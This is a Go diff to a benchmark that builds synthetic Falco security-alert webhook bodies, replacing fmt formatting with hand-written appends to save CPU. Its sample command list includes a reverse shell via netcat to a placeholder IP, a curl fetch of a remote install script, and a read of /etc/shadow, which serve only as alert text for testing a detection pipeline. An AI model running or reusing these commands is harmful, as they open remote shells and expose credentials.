@@ -49,8 +49,9 @@ func newBenchScenario() *benchScenario {
 var benchPriorities = []string{"Critical", "Error", "Warning", "Warning", "Notice", "Notice", "Notice", "Informational"}
 
 // body is one falcosidekick webhook request (one event, fresh uuid), shaped like a real Falco 0.44 alert. It is
-// written with appends (every value is plain ASCII, so %q quotes it as JSON does) instead of json.Marshal: the
-// senders stand in for falcosidekick, another process, and should cost this one as little CPU as possible.
+// written with appends (every value is plain ASCII, so strconv.AppendQuote quotes it as JSON does) instead of
+// json.Marshal or fmt: the senders stand in for falcosidekick, another process, and should cost this one as little
+// CPU as possible.
 func (s *benchScenario) body(i int, t time.Time) []byte {
 	r := s.rng
 	ri := min(int(r.ExpFloat64()*8), len(s.rules)-1)
@@ -58,18 +59,81 @@ func (s *benchScenario) body(i int, t time.Time) []byte {
 	pi := r.IntN(len(s.pods))
 	pod, ns := s.pods[pi], s.namespaces[pi%len(s.namespaces)]
 	host := s.hosts[pi%len(s.hosts)]
-	cmd := []string{"bash -il", "cat /etc/shadow", "curl -s http://198.51.100.7/install.sh", "nc -e /bin/sh 203.0.113.5 4444", "python3 -c import pty"}[r.IntN(5)]
-	proc := strings.Fields(cmd)[0]
+	cmd := benchCommands[r.IntN(len(benchCommands))]
+	proc, _, _ := strings.Cut(cmd, " ")
+	q := strconv.AppendQuote
 	b := make([]byte, 0, 1536)
-	b = fmt.Appendf(b, `{"uuid":"%08x-bench-4000-8000-%012d","rule":%q,"priority":%q,"time":%q,"source":"syscall","hostname":%q,`,
-		r.Uint32(), i, rule, benchPriorities[ri%len(benchPriorities)], t.Format(time.RFC3339Nano), host) // a Falco rule has one priority
-	b = fmt.Appendf(b, `"tags":["container","maturity_stable",%q,"T10%02d"],`, []string{"shell", "filesystem", "network", "process"}[i%4], i%40)
-	b = fmt.Appendf(b, `"output":"%s: %s | evt_type=execve user=root user_uid=0 process=%s parent=containerd-shim command=%s container_id=%012x container_name=app container_image_repository=ghcr.io/acme/%s k8s_pod_name=%s k8s_ns_name=%s",`,
-		t.Format("15:04:05.000000000"), rule, proc, cmd, r.Uint64()&0xffffffffffff, ns, pod, ns)
-	b = fmt.Appendf(b, `"output_fields":{"container.id":"%012x","container.image.repository":"ghcr.io/acme/%s","container.image.tag":"1.%d","container.name":"app",`, pi, ns, pi%7)
-	b = fmt.Appendf(b, `"evt.time":%d,"evt.type":"execve","k8s.ns.name":%q,"k8s.pod.name":%q,"proc.cmdline":%q,"proc.exepath":"/usr/bin/%s",`, t.UnixNano(), ns, pod, cmd, proc)
-	b = fmt.Appendf(b, `"proc.name":%q,"proc.pname":"containerd-shim","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0}}`, proc)
+	b = append(b, `{"uuid":"`...)
+	b = appendHex(b, uint64(r.Uint32()), 8)
+	b = append(b, "-bench-4000-8000-"...)
+	b = appendPadded(b, uint64(i), 12)
+	b = append(b, `","rule":`...)
+	b = q(b, rule)
+	b = append(b, `,"priority":`...)
+	b = q(b, benchPriorities[ri%len(benchPriorities)]) // a Falco rule has one priority
+	b = append(b, `,"time":"`...)
+	b = t.AppendFormat(b, time.RFC3339Nano)
+	b = append(b, `","source":"syscall","hostname":`...)
+	b = q(b, host)
+	b = append(b, `,"tags":["container","maturity_stable",`...)
+	b = q(b, []string{"shell", "filesystem", "network", "process"}[i%4])
+	b = append(b, `,"T10`...)
+	b = appendPadded(b, uint64(i%40), 2)
+	b = append(b, `"],"output":"`...)
+	b = t.AppendFormat(b, "15:04:05.000000000")
+	b = append(b, ": "...)
+	b = append(b, rule...)
+	b = append(b, " | evt_type=execve user=root user_uid=0 process="...)
+	b = append(b, proc...)
+	b = append(b, " parent=containerd-shim command="...)
+	b = append(b, cmd...)
+	b = append(b, " container_id="...)
+	b = appendHex(b, r.Uint64()&0xffffffffffff, 12)
+	b = append(b, " container_name=app container_image_repository=ghcr.io/acme/"...)
+	b = append(b, ns...)
+	b = append(b, " k8s_pod_name="...)
+	b = append(b, pod...)
+	b = append(b, " k8s_ns_name="...)
+	b = append(b, ns...)
+	b = append(b, `","output_fields":{"container.id":"`...)
+	b = appendHex(b, uint64(pi), 12)
+	b = append(b, `","container.image.repository":"ghcr.io/acme/`...)
+	b = append(b, ns...)
+	b = append(b, `","container.image.tag":"1.`...)
+	b = strconv.AppendInt(b, int64(pi%7), 10)
+	b = append(b, `","container.name":"app","evt.time":`...)
+	b = strconv.AppendInt(b, t.UnixNano(), 10)
+	b = append(b, `,"evt.type":"execve","k8s.ns.name":`...)
+	b = q(b, ns)
+	b = append(b, `,"k8s.pod.name":`...)
+	b = q(b, pod)
+	b = append(b, `,"proc.cmdline":`...)
+	b = q(b, cmd)
+	b = append(b, `,"proc.exepath":"/usr/bin/`...)
+	b = append(b, proc...)
+	b = append(b, `","proc.name":`...)
+	b = q(b, proc)
+	b = append(b, `,"proc.pname":"containerd-shim","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0}}`...)
 	return b
+}
+
+var benchCommands = []string{"bash -il", "cat /etc/shadow", "curl -s http://198.51.100.7/install.sh", "nc -e /bin/sh 203.0.113.5 4444", "python3 -c import pty"}
+
+// appendHex appends v in lower-case hex, zero-padded to width digits (fmt's %0*x).
+func appendHex(b []byte, v uint64, width int) []byte {
+	return appendPaddedDigits(b, strconv.AppendUint(nil, v, 16), width)
+}
+
+// appendPadded appends v in decimal, zero-padded to width digits (fmt's %0*d).
+func appendPadded(b []byte, v uint64, width int) []byte {
+	return appendPaddedDigits(b, strconv.AppendUint(nil, v, 10), width)
+}
+
+func appendPaddedDigits(b, digits []byte, width int) []byte {
+	for range width - len(digits) {
+		b = append(b, '0')
+	}
+	return append(b, digits...)
 }
 
 // processCPU is the user+system CPU time this process has used: wall-clock rates on a shared machine say
